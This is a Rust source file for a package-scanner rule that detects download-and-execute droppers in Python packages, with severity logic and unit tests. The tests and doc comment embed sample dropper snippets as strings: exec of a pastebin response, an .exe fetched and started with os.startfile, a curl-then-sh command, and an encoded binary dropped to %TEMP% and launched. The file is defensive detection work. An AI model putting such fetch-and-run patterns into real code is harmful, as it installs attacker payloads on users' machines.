use super::vocab;
use crate::declare_rule;
use crate::inspect::python::{Call, Sink};
use crate::inspect::rules::{Rule, RuleMeta};
use crate::inspect::{Analysis, Finding, Severity, Stage};

declare_rule! {
    /// ## What it does
    /// Flags code that downloads something and then runs it: fetch → write →
    /// execute (`subprocess`, `os.startfile`, `os.system`, `exec`), or fetch →
    /// `exec` directly.
    ///
    /// ## Why is this bad?
    /// It is the shape of every dropper: the package itself stays small and
    /// clean-looking, and the payload arrives from a server the attacker controls.
    ///
    /// ## Example
    /// ```python
    /// # setup.py — Error
    /// urllib.request.urlretrieve("http://x.example/a.exe", p); os.startfile(p)
    /// exec(requests.get("https://pastebin.com/raw/x").text)      # Error
    /// def update(): data = requests.get(url).content             # No error
    /// ```
    ///
    /// ## False positives
    /// Tools that download and launch a browser driver or toolchain when
    /// asked (a driver installer, a conda bootstrap, even one written to a file
    /// and run): inside functions this is `medium` unless the source is a paste
    /// site, tunnel or raw IP, the launch is hidden, the code runs straight from
    /// the response, or a named Windows program (`…\\svc.exe`) is dropped and started.
    DownloadExecute, id = "download-execute", severity = Critical,
    summary = "downloads a file or code and executes it"
}

impl Rule for DownloadExecute {
    fn meta(&self) -> &'static RuleMeta {
        &Self::META
    }

    fn check(&self, analysis: &Analysis, out: &mut Vec<Finding>) {
        for unit in analysis.units() {
            let code = unit.code;
            if let Some(f) = drop_and_run(&unit) {
                out.push(f);
                continue;
            }
            // Download and execution must happen in the same function (or both
            // at module level): unrelated helpers in one module prove nothing.
            // Across functions of one flow (`main()` calling `fetch()` then
            // `run()`) they count only when the download names a program.
            let find = |flow: bool| {
                code.calls
                    .iter()
                    .filter(|c| vocab::is_download(&c.name))
                    .find_map(|download| {
                        let flow_scopes = if flow {
                            code.flow_scopes(download.scope)
                        } else {
                            Vec::new()
                        };
                        let same = |c: &&Call| {
                            if flow {
                                c.scope != download.scope && flow_scopes.get(c.scope as usize).copied().unwrap_or(false)
                            } else {
                                c.scope == download.scope
                            }
                        };
                        let direct = code.calls.iter().filter(same).find(|c| {
                            (vocab::is_exec(&c.name) || (vocab::is_shell(&c.name) && python_from_stdin(c)))
                                && fed_by_network(code, c)
                        });
                        let launch = code.calls.iter().filter(same).find(|c| {
                            (vocab::is_shell(&c.name) && !fetch_tool(c))
                                || matches!(
                                    c.name.as_str(),
                                    "os.startfile" | "os.chmod" | "ctypes.windll.shell32.ShellExecuteW"
                                )
                        });
                        match (direct, launch) {
                            (Some(d), _) => Some((download, d, "executes the downloaded code", true)),
                            (None, Some(l)) => Some((download, l, "then launches it", false)),
                            (None, None) => None,
                        }
                    })
            };
            let (pair, across) = match find(false) {
                Some(p) => (Some(p), false),
                None => (find(true), true),
            };
            let Some((download, run, how, direct)) = pair else {
                continue;
            };
            let scoped: Vec<&str> = code
                .strings
                .iter()
                .filter(|l| l.scope == download.scope)
                .map(|l| l.value.as_str())
                .collect();
            // A URL naming a Windows program, anywhere in the flow that downloads and runs.
            let flow_scopes = code.flow_scopes(download.scope);
            let program_url = code
                .strings
                .iter()
                .filter(|l| flow_scopes.get(l.scope as usize).copied().unwrap_or(false))
                .map(|l| l.value.as_str())
                .chain(download.arg_strs.iter().map(String::as_str))
                .any(|s| s.contains("://") && !s.contains(' ') && names_program(s) && raw_file_host(s));
            let shady_source = download
                .arg_strs
                .iter()
                .map(String::as_str)
                .chain(scoped.iter().copied())
                .filter_map(vocab::endpoint_kind)
                .find(|e| !matches!(e, vocab::Endpoint::IpLookup));
            // A Windows program or script written to disk and started.
            let dropped_program = program_url || scoped.iter().any(|s| names_program(s) && !s.contains(' '));
            if across && !program_url {
                continue;
            }
            let stage = download.stage.max(run.stage);
            let runs_written = runs_what_it_wrote(code, run);
            // `pip install` of a package is resolved and verified by pip, not the file fetched
            // next to it (a self-updater checking its version on PyPI): review, not deny.
            let pip = !direct && !dropped_program && !runs_written && shady_source.is_none() && pip_install(run);
            // What ties the launch to the download: the same path or variable in both, or
            // the evidence above. Without it, a build fetching a toolchain from its release
            // URL and running the tool it installed is `review`, not `deny` (issue 11).
            let untrusted_source = download.arg_strs.iter().any(|a| vocab::untrusted_host(a).is_some())
                || scoped
                    .iter()
                    .any(|a| a.contains("://") && vocab::untrusted_host(a).is_some());
            // A clone run by setup.py is code fetched and run at install time.
            let install_clone = download.name.contains("clone") && stage == Stage::Install;
            let linked = direct
                || dropped_program
                || runs_written
                || program_url
                || shady_source.is_some()
                || untrusted_source
                || install_clone
                || hidden(run)
                // A tool of its own run on the file fetched (`flatc -p schema.fbs`) reads
                // it as data; the same file handed to a shell or interpreter is run.
                || !tool_on_data(download, run) && (shares_target(download, run) || runs_a_written_name(code, run));
            let severity = match stage {
                Stage::Install | Stage::Import if pip || !linked => Severity::High,
                Stage::Install | Stage::Import => Severity::Critical,
                // A library function that fetches an installer and runs it (a driver, a
                // toolchain, a conda bootstrap) is what its caller asked for: `medium`.
                // Code executed straight from a response, a source named for what it is
                // (a paste site, a tunnel, a raw IP) or a hidden launch is `high` (issue 11).
                Stage::Call
                    if direct || shady_source.is_some() || untrusted_source || dropped_program || hidden(run) =>
                {
                    Severity::High
                }
                Stage::Call => Severity::Medium,
                Stage::Auxiliary => Severity::Low,
            };
            let from = shady_source
                .map(|e| format!(" from {}", e.describe()))
                .unwrap_or_default();
            let message = format!(
                "downloads with {}(){from} and {how} with {}() {}",
                download.name,
                run.name,
                stage.describe()
            );
            out.push(unit.finding(Self::META.id, severity, run.line, message).at(stage));
        }
    }
}

/// The launch names what the download wrote: a path string or a variable of
/// the download's arguments (not its URL) reappears in the launch's.
fn shares_target(download: &Call, run: &Call) -> bool {
    let mut paths = download
        .arg_strs
        .iter()
        .filter(|a| !a.contains("://") && a.len() >= 3 && a.replace("{}", "").trim().len() >= 3);
    let mut names = variables(download).filter(|n| !matches!(*n, "url" | "headers"));
    paths.any(|p| run.arg_strs.iter().any(|r| r.contains(p.as_str()))) || names.any(|n| variables(run).any(|r| r == n))
}

/// The launch names a variable that the same function opened for writing
/// (`open(path, "wb").write(r.content); os.chmod(path, …)`).
fn runs_a_written_name(code: &crate::inspect::python::PyFile, run: &Call) -> bool {
    code.calls.iter().any(|c| {
        c.name == "open"
            && c.scope == run.scope
            && c.arg_strs.iter().any(|m| m.len() <= 3 && m.starts_with('w'))
            && variables(c).any(|n| variables(run).any(|r| r == n))
    })
}

/// The names of a call's arguments that can hold its data: not the modules,
/// functions and methods it calls on the way (`os`, `path`, `join` of
/// `os.path.join(os.getcwd(), name)`, `format`), which every path shares.
fn variables(call: &Call) -> impl Iterator<Item = &str> {
    call.arg_names.iter().map(String::as_str).filter(|n| {
        !matches!(
            *n,
            "self" | "format" | "join" | "encode" | "decode" | "replace" | "strip"
        ) && !call
            .arg_refs
            .iter()
            .any(|r| r.split(['.', '(', ')']).any(|seg| seg == *n))
    })
}

/// The launch runs a named tool on data rather than a program (see
/// [`vocab::runs_a_tool_on_data`]), and the tool is not the file downloaded
/// (`urlretrieve(u, "/tmp/t"); run(["/tmp/t"])`).
fn tool_on_data(download: &Call, run: &Call) -> bool {
    let Some(argv) = run.arg_strs.first() else { return false };
    let program = argv.split_whitespace().next().unwrap_or("");
    vocab::is_shell(&run.name)
        && !matches!(
            run.name.as_str(),
            "os.startfile" | "os.execv" | "os.execve" | "os.execl" | "os.execlp" | "os.execvp"
        )
        && vocab::runs_a_tool_on_data(argv)
        && !download
            .arg_strs
            .iter()
            .any(|p| !p.contains("://") && p.len() >= 3 && (program.contains(p.as_str()) || p.contains(program)))
}

/// `curl`/`wget`/`git` run as a program: another download, not a launch of what was fetched.
fn fetch_tool(c: &Call) -> bool {
    c.arg_strs.first().is_some_and(|a| vocab::fetch_only_command(a))
}

/// A launch that runs `pip install …` (`[sys.executable, "-m", "pip", "install", …]`).
fn pip_install(c: &Call) -> bool {
    c.arg_strs.iter().any(|a| a.contains("pip install"))
        || (c
            .arg_strs
            .iter()
            .any(|a| a == "pip" || a.ends_with("/pip") || a == "-m")
            && c.arg_strs.iter().any(|a| a == "install"))
}

/// The launch runs the very file the same function opened for binary
/// writing: `open(p, "wb").write(r.content); subprocess.run([p])`.
fn runs_what_it_wrote(code: &crate::inspect::python::PyFile, run: &Call) -> bool {
    code.calls.iter().any(|c| {
        c.name == "open"
            && c.scope == run.scope
            && c.arg_strs.iter().any(|m| m.starts_with('w') && m.contains('b'))
            && c.arg_names.first().is_some_and(|p| run.arg_names.first() == Some(p))
    })
}

/// A reference to data from the network: `requests.get`, or the result of a
/// send (`requests.get().json().get()`).
fn network_ref(r: &str) -> bool {
    vocab::is_network(r) || (r.contains("()") && r.split("()").next().is_some_and(vocab::is_network))
}

/// `exec(x)` where `x` is network data, directly or through one decoder call
/// of the same function (`exec(b64decode(requests.get(u).json()["m"]))`).
/// An argv that runs Python on its standard input (`[sys.executable, "-"]`,
/// `python3 -`): what it is fed is executed.
fn python_from_stdin(call: &Call) -> bool {
    // `sys.executable` does not fold: the argv then reads `-` with `executable` among its names.
    let executable = call.arg_names.iter().any(|n| n == "executable");
    call.arg_strs.first().is_some_and(|argv| {
        let words: Vec<&str> = argv.split_whitespace().collect();
        words.last() == Some(&"-")
            && (executable
                || words[..words.len() - 1]
                    .iter()
                    .any(|w| w.rsplit(['/', '\\']).next().unwrap_or(w).starts_with("python") || *w == "{}"))
    })
}

fn fed_by_network(code: &crate::inspect::python::PyFile, exec: &Call) -> bool {
    exec.arg_refs.iter().any(|r| {
        if network_ref(r) {
            return true;
        }
        let Some(head) = r.split("()").next().filter(|_| r.contains("()")) else {
            return false;
        };
        code.calls
            .iter()
            .any(|d| d.scope == exec.scope && d.name == head && d.arg_refs.iter().any(|x| network_ref(x)))
    })
}

/// Where droppers keep their payload: raw files of a personal repository or
/// file share, not a project's release downloads.
fn raw_file_host(url: &str) -> bool {
    let l = url.to_ascii_lowercase();
    [
        "raw.githubusercontent.com",
        "gist.githubusercontent.com",
        "/raw/",
        "/-/raw/",
        "dropbox.com",
        "dropboxusercontent.com",
        "cdn.discordapp.com",
        "drive.google.com",
        "mediafire.com",
    ]
    .iter()
    .any(|h| l.contains(h))
        || vocab::untrusted_host(url).is_some()
}

/// `x.exe`, `…/setup.bat?dl=1`: the name of a Windows program or script.
fn names_program(s: &str) -> bool {
    let l = s.to_ascii_lowercase();
    let path = l.split(['?', '#']).next().unwrap_or(&l);
    let file = path.rsplit(['/', '\\']).next().unwrap_or(path);
    // A name, not an extension on its own (`exe_ext = ".exe"`).
    vocab::WINDOWS_PROGRAMS
        .iter()
        .any(|e| file.len() > e.len() && file.ends_with(e))
}

/// A launch that hides its window or detaches from the console.
fn hidden(run: &Call) -> bool {
    run.arg_refs.iter().any(|r| {
        matches!(
            r.as_str(),
            "subprocess.CREATE_NO_WINDOW"
                | "subprocess.DETACHED_PROCESS"
                | "subprocess.STARTUPINFO"
                | "subprocess.SW_HIDE"
        )
    }) || run.arg_strs.iter().any(|a| vocab::is_strong_command(a))
}

/// A native program decoded from a literal in the code (MZ, ELF, Mach-O),
/// written to disk and launched by the same unit: an embedded-binary dropper,
/// however small the blob (issue 11).
fn binary_drop(unit: &crate::inspect::Unit) -> Option<Finding> {
    let code = unit.code;
    let blob = code.payloads.iter().find(|p| p.binary)?;
    let writes = blob.sink == Sink::Write
        || code
            .calls
            .iter()
            .any(|c| c.name.ends_with(".write") || c.name.ends_with(".write_bytes"));
    if !writes {
        return None;
    }
    let launch = code.calls.iter().find(|c| {
        vocab::is_shell(&c.name) || matches!(c.name.as_str(), "os.startfile" | "ctypes.windll.shell32.ShellExecuteW")
    })?;
    let stage = blob.stage.max(launch.stage);
    let severity = match stage {
        Stage::Install | Stage::Import => Severity::Critical,
        Stage::Call => Severity::High,
        Stage::Auxiliary => Severity::Low,
    };
    let message = format!(
        "writes a native program decoded from {} ({} bytes) to disk and launches it with {}() {}",
        blob.steps.join(" → "),
        blob.size,
        launch.name,
        stage.describe()
    );
    Some(
        unit.finding(DownloadExecute::META.id, severity, launch.line, message)
            .at(stage),
    )
}

/// At install time, a file the script itself wrote, run by a shell or an
/// interpreter (`bash /tmp/x.sh`, `[sys.executable, path]`): setup.py
/// writing and starting a program is a dropper whatever the file holds (issue 11).
fn install_written_launch(unit: &crate::inspect::Unit) -> Option<Finding> {
    let code = unit.code;
    let written: Vec<&str> = code
        .calls
        .iter()
        .filter(|c| {
            c.name == "open"
                && c.stage == Stage::Install
                && c.arg_strs.iter().any(|m| {
                    m.len() <= 3 && (m.starts_with('w') || m.starts_with('a')) && m.chars().all(|c| "wabt+".contains(c))
                })
        })
        .filter_map(|c| c.arg_strs.first().map(String::as_str))
        .filter(|p| p.replace("{}", "").trim_matches(['/', '\\', '.']).len() >= 3)
        .collect();
    // Files opened for writing by a plain variable (`open(p, "w")`).
    let written_vars: Vec<&str> = code
        .calls
        .iter()
        .filter(|c| {
            c.name == "open"
                && c.stage == Stage::Install
                && c.arg_strs
                    .iter()
                    .any(|m| m.len() <= 3 && (m.starts_with('w') || m.starts_with('a')))
                && c.arg_names.len() == 1
        })
        .map(|c| c.arg_names[0].as_str())
        .collect();
    let launch = code.calls.iter().find(|run| {
        if run.stage != Stage::Install || !(vocab::is_shell(&run.name) || run.name == "os.startfile") {
            return false;
        }
        // The command line: an interpreter or shell running the written file, or the file itself.
        let line = run.arg_strs.first().map(String::as_str).unwrap_or("");
        let words: Vec<&str> = line.split_whitespace().collect();
        let first = words.first().copied().unwrap_or("");
        let program = first.rsplit(['/', '\\']).next().unwrap_or(first).to_ascii_lowercase();
        let interpreter = run.arg_refs.iter().any(|r| r == "sys.executable")
            || [
                "bash",
                "sh",
                "zsh",
                "cmd",
                "cmd.exe",
                "powershell",
                "pwsh",
                "node",
                "wscript",
                "cscript",
                "perl",
            ]
            .contains(&program.as_str())
            || program.starts_with("python");
        written
            .iter()
            .any(|w| (interpreter && words.iter().skip(1).take(3).any(|x| x == w)) || first == *w)
            || (interpreter && written_vars.iter().any(|v| run.arg_names.iter().any(|n| n == v)))
    })?;
    let message = format!(
        "writes a file and runs it with {}() {}",
        launch.name,
        launch.stage.describe()
    );
    Some(
        unit.finding(DownloadExecute::META.id, Severity::Critical, launch.line, message)
            .at(launch.stage),
    )
}

/// Code written to disk from a string or decoded blob, then launched by the same unit.
fn drop_and_run(unit: &crate::inspect::Unit) -> Option<Finding> {
    if let Some(f) = binary_drop(unit).or_else(|| install_written_launch(unit)) {
        return Some(f);
    }
    let code = unit.code;
    let dropped = code
        .payloads
        .iter()
        .find(|p| p.sink == Sink::Write && p.code.is_some())?;
    let launch = code.calls.iter().find(|c| {
        (vocab::is_shell(&c.name) || c.name == "os.startfile")
            && (c.arg_refs.iter().any(|r| r == "sys.executable")
                || c.arg_strs.iter().enumerate().any(|(i, s)| {
                    if i == 0 {
                        vocab::dangerous_command(s).is_some()
                    } else {
                        vocab::dangerous_fragment(s).is_some()
                    }
                }))
    })?;
    let stage = dropped.stage.max(launch.stage);
    let severity = match stage {
        Stage::Install | Stage::Import => Severity::Critical,
        // Build tools write generated code and run it when asked.
        Stage::Call => Severity::Medium,
        Stage::Auxiliary => Severity::Low,
    };
    let message = format!(
        "writes embedded Python code to disk and runs it with {}() {}",
        launch.name,
        stage.describe()
    );
    Some(
        unit.finding(DownloadExecute::META.id, severity, launch.line, message)
            .at(stage),
    )
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::archive::Kind;
    use crate::inspect::testing::{check, setup_py};

    #[test]
    fn fires_on_response_fed_to_python_stdin() {
        // Error (issue 11): `python -` runs whatever the server answers.
        let f = setup_py(
            &DownloadExecute,
            "import subprocess, urllib.request\nsrc = urllib.request.urlopen('https://example.com/a').read()\nsubprocess.run(['python', '-'], input=src)\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        let f = setup_py(
            &DownloadExecute,
            "import subprocess, sys, requests\nr = requests.get('https://example.com/a')\nsubprocess.run([sys.executable, '-'], input=r.content)\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // No error at critical: the response saved, and an unrelated interpreter run.
        let f = setup_py(
            &DownloadExecute,
            "import subprocess, urllib.request\ndata = urllib.request.urlopen('https://example.com/a').read()\nsubprocess.run(['python', '-m', 'build'])\n",
        );
        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
    }

    #[test]
    fn fires_on_a_response_bound_by_with() {
        // Error: the response of a `with … as resp:` block executed on import.
        let src = "import types\nimport urllib.request as request\ndef update():\n    with request.urlopen('https://x.example/check', timeout=10) as resp:\n        m = types.ModuleType('m')\n        exec(resp.read(), m.__dict__)\nupdate()\n";
        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/__init__.py", src)]);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
        // No error: a version file read with `with open(…) as f` and executed.
        let src = "ns = {}\nwith open('pkg/_version.py') as f:\n    exec(f.read(), ns)\n";
        assert!(setup_py(&DownloadExecute, src).is_empty());
    }

    #[test]
    fn a_launch_sharing_only_module_names_with_a_written_file_is_not_linked() {
        // No error at critical (held-out pop-f): a driver download and an unrelated
        // command that share only `os.path.join(os.getcwd(), …)` with a file written.
        let src = "import os, subprocess, urllib.request\ndata = urllib.request.urlopen('https://vendor.example.com/d.tgz').read()\nopen(os.path.join(os.getcwd(), 'setup.cfg'), 'w').write('x')\nsubprocess.run(['tso', 'oput {}'.format(os.path.join(os.getcwd(), lib))])\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::High), "{f:?}");
        // Error: the launch runs the file written.
        let src = "import os, subprocess, urllib.request\ndata = urllib.request.urlopen('https://vendor.example.com/d').read()\nopen(tool, 'wb').write(data)\nsubprocess.run([tool])\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!(f.iter().map(|f| f.severity).max(), Some(Severity::Critical), "{f:?}");
    }

    #[test]
    fn a_tool_reading_the_downloaded_file_is_not_a_launch() {
        // No error at critical (held-out pop-f): a schema fetched and compiled with flatc.
        let src = "import subprocess, tempfile, wget\nURL = 'https://github.com/o/r/raw/master/schema.fbs'\nschema_path = tempfile.mktemp()\nwget.download(URL, schema_path)\nsubprocess.call(['flatc', '-p', '-o', 'out', schema_path])\n";
        let f = check(&DownloadExecute, Kind::Wheel, &[("tools/gen.py", src)]);
        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
        // Error: the file fetched is the program run.
        let src2 = "import subprocess, urllib.request\nurllib.request.urlretrieve('https://x.example/t', '/tmp/t')\nsubprocess.call(['/tmp/t', '-d'])\n";
        let f = setup_py(&DownloadExecute, src2);
        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
        // Error: the same file handed to a shell.
        let f = check(
            &DownloadExecute,
            Kind::Wheel,
            &[("tools/gen.py", &src.replace("'flatc', '-p', '-o', 'out'", "'bash'"))],
        );
        assert!(f.iter().any(|f| f.severity == Severity::Critical), "{f:?}");
        for (argv, tool) in [
            ("flatc -p -o {} {}", true),
            ("tar xzf {}", true),
            ("/usr/bin/python3.11 {}", false),
            ("bash {}", false),
            ("{} --install", false),
            ("flatc {} && sh {}", false),
            ("setup.bat", false),
            ("cmd.exe /c {}", false),
        ] {
            assert_eq!(vocab::runs_a_tool_on_data(argv), tool, "{argv}");
        }
    }

    #[test]
    fn fires_on() {
        let f = setup_py(
            &DownloadExecute,
            "import urllib.request, os\np = os.path.join(os.getenv('TEMP'), 'a.exe')\nurllib.request.urlretrieve('http://x/a.exe', p)\nos.startfile(p)\n",
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
        let f = check(
            &DownloadExecute,
            Kind::Wheel,
            &[(
                "pkg/__init__.py",
                "import requests\nexec(requests.get('https://pastebin.com/raw/abc').text)\n",
            )],
        );
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical));
    }

    #[test]
    fn fires_on_running_the_file_it_wrote() {
        let src = "import requests, subprocess\ndef init(url, path):\n    r = requests.get(url)\n    with open(path, 'wb') as f:\n        f.write(r.content)\n    subprocess.run([path])\n";
        // Run by importing: a dropper.
        let at_import = src.replace(
            "def init(url, path):",
            "url, path = 'https://x.example/a', 'a'\ndef init():",
        ) + "init()\n";
        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/__init__.py", &at_import)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // In a library function (a driver installer fetched and run when asked): a note.
        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
        // A Windows program dropped and started when called is still a dropper's shape.
        let exe = src.replace(
            "with open(path",
            "path = os.environ['TEMP'] + '\\\\svc.exe'\n    with open(path",
        );
        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", &exe)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
        // A build that downloads a source tarball and updates a git checkout launches nothing fetched.
        let build = "import urllib.request, subprocess\nurllib.request.urlretrieve('https://x.example/src.tar.gz', 'src.tar.gz')\nsubprocess.run('cd mupdf && git pull && git submodule update --init', shell=True)\n";
        let f = crate::inspect::testing::setup_py(&DownloadExecute, build);
        assert!(f.iter().all(|f| f.severity < Severity::Critical), "{f:?}");
        // …while a fetched script run by the shell is a launch.
        let run = build.replace(
            "cd mupdf && git pull && git submodule update --init",
            "curl -o i.sh https://x && sh i.sh",
        );
        let f = crate::inspect::testing::setup_py(&DownloadExecute, &run);
        assert!(f.iter().any(|f| f.severity >= Severity::High), "{f:?}");
        // An extension on its own is not a program's name (`exe_ext = ".exe"`).
        assert!(!names_program(".exe") && names_program("C:\\t\\svc.exe") && names_program("https://x/a.bat?dl=1"));
    }

    #[test]
    fn fires_on_exec_of_a_decoded_response() {
        let src = "import requests, base64\ndef run():\n    res = requests.get(URL)\n    msg = res.json().get('m')\n    code = base64.b64decode(msg).decode()\n    exec(code)\n";
        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/core.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn fires_across_functions_of_one_flow() {
        let src = "import requests, subprocess\ndef fetch(u, p):\n    open(p, 'wb').write(requests.get(u).content)\n\
                   def run(p):\n    subprocess.Popen(p)\ndef main():\n    fetch('https://raw.githubusercontent.com/x/y/main/a.exe', 'a.exe')\n    run('a.exe')\n";
        let f = check(&DownloadExecute, Kind::Wheel, &[("pkg/tool.py", src)]);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
        // The same shape fetching an archive is not reported across functions.
        let src = src.replace("a.exe'", "node.tar.gz'");
        assert!(check(&DownloadExecute, Kind::Wheel, &[("pkg/tool.py", &src)]).is_empty());
    }

    #[test]
    fn fires_on_dropped_code() {
        let src = "import os, sys\nclass I:\n    def run(self):\n        content = '''\nimport os\nos.system('whoami')\n'''\n        p = os.path.join(os.getenv('APPDATA'), 'x.py')\n        with open(p, 'w') as f:\n            f.write(content)\n        os.system(sys.executable + ' ' + p)\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
    }

    #[test]
    fn fires_on_embedded_binary() {
        // Error (issue 11): a 16-byte MZ blob written to %TEMP% and started at install time.
        let src = "import base64, os, subprocess\nb = 'TVqQAAMAAAAEAAAA//8AAA=='\ndata = base64.b64decode(b)\n\
                   p = os.path.join(os.getenv('TEMP'), 'svc.exe')\nwith open(p, 'wb') as f:\n    f.write(data)\n\
                   subprocess.Popen(p, shell=True)\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        assert!(f[0].message.contains("native program"), "{f:?}");
    }

    #[test]
    fn fires_on_running_a_written_file_at_install() {
        // Error (issue 11): `bash written_file` and `sys.executable written_file` in setup.py.
        let src = "import subprocess\nwith open('/tmp/x.sh', 'w') as f:\n    f.write(SCRIPT)\nsubprocess.call(['bash', '/tmp/x.sh'])\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        let src = "import subprocess, sys, os\np = os.path.join(os.path.expanduser('~'), '.cache', 'u.py')\nopen(p, 'w').write(CODE)\nsubprocess.Popen([sys.executable, p])\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::Critical), "{f:?}");
        // No error: a custom command writing an entry point and handing it to a packager.
        let src = "import subprocess, os\nd = T\nwith open(os.path.join(d, 'entry.py'), 'w') as f:\n    f.write(E)\nsubprocess.check_call([os.path.join(d, 'env/bin/pyinstaller'), '--onefile', os.path.join(d, 'entry.py')])\n";
        assert!(setup_py(&DownloadExecute, src).is_empty());
        // No error: setup.py writing a version file and running a compiler on sources.
        let src =
            "import subprocess\nopen('pkg/_version.py', 'w').write(V)\nsubprocess.check_call(['make', '-C', 'src'])\n";
        assert!(setup_py(&DownloadExecute, src).is_empty());
    }

    #[test]
    fn toolchain_download_in_a_build_is_review() {
        // Review, not deny (issue 11): a build fetching a toolchain archive from its release
        // URL, then running a build tool that does not name what was fetched.
        let src = "import urllib.request, subprocess, tarfile\nurllib.request.urlretrieve('https://github.com/org/tool/releases/download/v1.2/tool-linux.tar.gz', 'tool.tar.gz')\ntarfile.open('tool.tar.gz').extractall('build')\nsubprocess.check_call(['cmake', '--build', 'build'])\n";
        let f = setup_py(&DownloadExecute, src);
        assert_eq!((f.len(), f[0].severity), (1, Severity::High), "{f:?}");
    }

    #[test]
    fn quiet_on() {
        let f = check(
            &DownloadExecute,
            Kind::Wheel,
            &[(
                "pkg/dl.py",
                "import requests\ndef fetch(u):\n    return requests.get(u).content\n",
            )],
        );
        assert!(f.is_empty());
        // Medium only: a driver installer inside a function.
        let f = check(
            &DownloadExecute,
            Kind::Wheel,
            &[("pkg/drv.py", "import urllib.request, os\ndef install(u, p):\n    urllib.request.urlretrieve(u, p)\n    os.chmod(p, 0o755)\n")],
        );
        assert!(f.iter().all(|f| f.severity <= Severity::Medium), "{f:?}");
    }
}
